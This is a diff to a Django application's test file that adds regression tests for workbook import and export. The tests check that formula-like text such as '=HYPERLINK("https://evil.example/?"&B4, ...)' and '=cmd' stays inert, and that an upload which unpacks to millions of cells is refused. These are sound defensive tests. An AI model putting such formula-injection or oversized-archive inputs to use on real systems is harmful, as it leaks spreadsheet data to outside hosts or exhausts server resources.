@@ -16,6 +16,7 @@ from civicspace.assessments.panel_services import (
     panelist_add,
     principle_save,
 )
+from civicspace.assessments.services import SourceInput
 from civicspace.assessments.workbook_services import (
     workbook_apply,
     workbook_changes,
@@ -24,6 +25,7 @@ from civicspace.assessments.workbook_services import (
 )
 from civicspace.countries.models import Country
 from civicspace.imports.problems import ImportRefused
+from tests.imports.xlsx_files import rebuilt, sheet_xml
 
 pytestmark = pytest.mark.django_db
 
@@ -98,6 +100,29 @@ def test_download_fill_upload_apply_roundtrip(programme):
     assert cycle().panel_statistics.figures["dimensions"]["4.1"]["mean"] == 2.5
     again = workbook_read(cycle=cycle(), data=workbook_download(cycle=cycle()))
     assert workbook_changes(cycle=cycle(), upload=again) == []
+
+
+def test_text_that_looks_like_a_formula_survives_download_and_upload_unchanged(programme):
+    """It used to become a live formula, and an unchanged upload then emptied the justification
+    and deleted the sources."""
+    link = '=HYPERLINK("https://evil.example/?"&B4, "the law")'
+    principle_save(
+        cycle=cycle(),
+        principle="P4",
+        entries={
+            "4.1": DimensionEntry(
+                Decimal("2.0"), link, 0, sources=[SourceInput("=cmd", "https://example.org")]
+            )
+        },
+    )
+    data = workbook_download(cycle=cycle())
+    assert load(data)["P4"]["E4"].data_type == "s"
+    upload = workbook_read(cycle=cycle(), data=data)
+    assert workbook_changes(cycle=cycle(), upload=upload) == []
+    workbook_apply(cycle=cycle(), upload=upload)
+    stored = DimensionScore.objects.get(dimension="4.1")
+    assert stored.justification == link
+    assert [s.title for s in stored.sources.all()] == ["=cmd"]
 
 
 def test_errors_name_sheet_and_cell_and_nothing_is_written(programme):
@@ -182,6 +207,19 @@ def test_upload_problems_are_listed_on_the_page(programme, client):
     upload.name = "filled.xlsx"
     page = client.post("/workspace/KZ/2025/workbook/", {"workbook": upload}).content.decode()
     assert "sheet &quot;P2&quot;, cell D4: &#x27;lots&#x27; is not a number" in page
+    assert "Apply these changes" not in page
+
+
+def test_a_workbook_that_unpacks_to_millions_of_cells_is_refused_on_the_page(programme, client):
+    member(client)
+    genuine = client.get("/workspace/KZ/2025/workbook.xlsx").content
+    rows = [b"<row>" + b"<c><v>1</v></c>" * 1_000 + b"</row>"] * 5_000
+    upload = io.BytesIO(
+        rebuilt(genuine, add={"xl/worksheets/extra.xml": sheet_xml(rows)}, sheets=["Extra"])
+    )
+    upload.name = "filled.xlsx"
+    page = client.post("/workspace/KZ/2025/workbook/", {"workbook": upload}).content.decode()
+    assert "more than the 10 MB allowed; delete unused sheets, rows and columns" in page
     assert "Apply these changes" not in page
 
 
